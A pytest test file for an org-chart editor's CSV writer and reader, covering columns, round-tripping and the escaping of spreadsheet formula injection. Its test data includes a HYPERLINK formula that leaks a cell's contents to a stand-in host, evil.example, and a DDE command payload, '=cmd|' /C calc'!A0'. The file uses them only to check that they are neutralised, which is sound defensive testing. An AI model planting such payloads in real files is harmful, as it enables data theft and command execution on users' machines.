"""CSV export: columns the reader maps back, Excel-safe cells, and what the reader learned
for it (dotted_managers, team_id, escaped cells, a CR inside a quoted cell)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from orgeditor.io import dumps_csv, read_csv, write_csv
from orgeditor.io.csv_writer import STANDARD_COLUMNS
from orgeditor.model import Chart, Position, Team, chart_state

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "'=x",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_columns_and_file_format(tmp_path) -> None:
    chart = Chart()
    chart.add_position(Position("1", "Ada", "VP Sales", custom={"dept": "Sales"}))
    chart.add_position(Position("2", "Bo", "AE", custom={"shoe size": "42"}), "1")
    path = tmp_path / "out.csv"
    write_csv(chart, path)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,name,title,manager_id,role,status,")  # UTF-8 BOM
    assert data.count(b"\r\n") == 3  # header and two rows, CRLF as Excel writes
    rows = _rows(data.decode("utf-8-sig"))
    assert rows[0] == [*STANDARD_COLUMNS, "dept", "shoe size"]
    assert rows[1][:6] == ["1", "Ada", "VP Sales", "", "", "filled"]
    assert rows[2][:4] == ["2", "Bo", "AE", "1"]
    assert rows[2][-2:] == ["", "42"]
    assert dumps_csv(chart) == data.decode("utf-8")[1:]  # dumps_csv: the same, without BOM


def test_only_explicit_roles_and_plain_numbers() -> None:
    chart = Chart()
    chart.add_position(Position("1", "Ada", "Account Executive", cost=-5000.0))
    chart.add_position(Position("2", "Bo", "Account Executive", explicit_role="sdr", cost=12.5))
    rows = _rows(dumps_csv(chart))
    role, cost = STANDARD_COLUMNS.index("role"), STANDARD_COLUMNS.index("cost")
    assert [r[role] for r in rows[1:]] == ["", "sdr"]
    assert [r[cost] for r in rows[1:]] == ["-5000", "12.5"]  # a number is never neutralised


@pytest.mark.parametrize("value", INJECTIONS)
def test_injection_is_neutralised_in_the_file_and_restored_on_import(tmp_path, value) -> None:
    chart = Chart()
    chart.add_position(Position(value, value, value, location=value, custom={"note": value}))
    chart.add_position(Position("2", "Bo", "AE"), value)
    chart.add_dotted_line(value, "2")
    path = tmp_path / "evil.csv"
    write_csv(chart, path)
    rows = _rows(path.read_bytes().decode("utf-8-sig"))
    cells = [rows[1][i] for i in range(len(rows[1])) if rows[1][i] not in ("", "filled")]
    cells.append(rows[2][STANDARD_COLUMNS.index("manager_id")])
    assert len(cells) == 6 and all(cell == "'" + value for cell in cells)
    # every cell of the file, the id lists included, is safe to open
    assert all(cell[0] not in "=+-@\t\r" for row in rows for cell in row if cell)
    back, problems = read_csv(path)
    assert problems == []
    assert chart_state(back) == chart_state(chart)


def test_a_real_leading_quote_survives(tmp_path) -> None:
    chart = Chart()
    chart.add_position(Position("1", "'abc", "'=x", custom={"note": "''+1"}))
    text = dumps_csv(chart)
    row = _rows(text)[1]
    assert row[1:3] == ["'abc", "''=x"]
    path = tmp_path / "q.csv"
    write_csv(chart, path)
    back, _ = read_csv(path)
    position = back.position("1")
    assert (position.name, position.title, position.custom) == ("'abc", "'=x", {"note": "''+1"})


def test_whitespace_and_line_breaks_survive(tmp_path) -> None:
    chart = Chart()
    odd = ["  lead", "trail  ", "Ada  Lovelace", "two\nlines", "cr\rinside", "crlf\r\nin"]
    for i, value in enumerate(odd):
        chart.add_position(Position(f"p{i}", value, value, region=value, custom={"c": value}))
    path = tmp_path / "ws.csv"
    write_csv(chart, path)
    back, _ = read_csv(path)
    assert chart_state(back) == chart_state(chart)


def test_hand_written_escaped_cells_import(import_text) -> None:
    chart, _ = import_text("id,name,title\n1,'=cmd|' /C calc'!A0,'-AE\n2,'abc,plain\n")
    assert chart.position("1").name == "=cmd|' /C calc'!A0"
    assert chart.position("1").title == "-AE"
    assert chart.position("2").name == "'abc"


def test_dotted_managers_column(import_text, named) -> None:
    chart, problems = import_text(
        "id,name,manager_id,dotted_managers\n"
        "1,Ada,,\n"
        "2,Bo,1,\n"
        "3,Cy,1,2; Ada ;nobody;3\n"  # an id, a name, an unknown reference, itself
    )
    assert problems == []
    assert sorted(chart.dotted_lines()) == [("1", "3"), ("2", "3")]
    assert chart.position("3").custom == {"dotted_managers": "nobody;3"}


def test_team_ids_are_kept(tmp_path) -> None:
    chart = Chart()
    chart.add_team(Team("t9", "Pod A", "pod"))
    chart.add_team(Team("x", "", "enablement"))  # no name: the id still finds it
    chart.add_position(Position("1", "Ada", "Lead", team="t9"))
    chart.add_position(Position("2", "Bo", "AE", team="t9"), "1")
    chart.add_position(Position("3", "Cy", "Enabler", team="x"), "1")
    path = tmp_path / "teams.csv"
    write_csv(chart, path)
    back, _ = read_csv(path)
    assert chart_state(back) == chart_state(chart)


def test_team_names_without_ids_still_group(import_text) -> None:
    chart, _ = import_text(
        "id,name,team,team_id\n1,Ada,Pod A,pod-a\n2,Bo,Pod B,\n3,Cy,pod a,\n4,Di,Pod B,\n"
    )
    teams = {t.id: t.name for t in chart.teams()}
    assert teams == {"pod-a": "Pod A", "pod-b": "Pod B"}
    assert [chart.position(p).team for p in "1234"] == ["pod-a", "pod-b", "pod-a", "pod-b"]


def test_control_characters_are_dropped(tmp_path) -> None:
    chart = Chart()
    chart.add_position(Position("1", "A\x00d\x01a", "T\x7fitle"))
    path = tmp_path / "ctl.csv"
    write_csv(chart, path)
    back, _ = read_csv(path)
    assert (back.position("1").name, back.position("1").title) == ("Ada", "Title")


# any text but control characters, which the writer drops (documented); formula triggers,
# quotes, tabs, line breaks and spaces often
_TEXT = st.text(
    st.one_of(st.characters(blacklist_categories=("Cs", "Cc")), st.sampled_from("\t\n\r=+-@' ;\\")),
    max_size=12,
)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(st.tuples(_TEXT, _TEXT, _TEXT), min_size=1, max_size=4))
def test_any_text_round_trips(tmp_path, rows: list[tuple[str, str, str]]) -> None:
    chart = Chart()
    for i, (name, title, note) in enumerate(rows):
        chart.add_position(
            Position(f"{i}{name}", name, title, custom={"note": note} if note else {})
        )
    path = tmp_path / "any.csv"
    write_csv(chart, path)
    back, problems = read_csv(path)
    assert problems == []
    assert chart_state(back) == chart_state(chart)
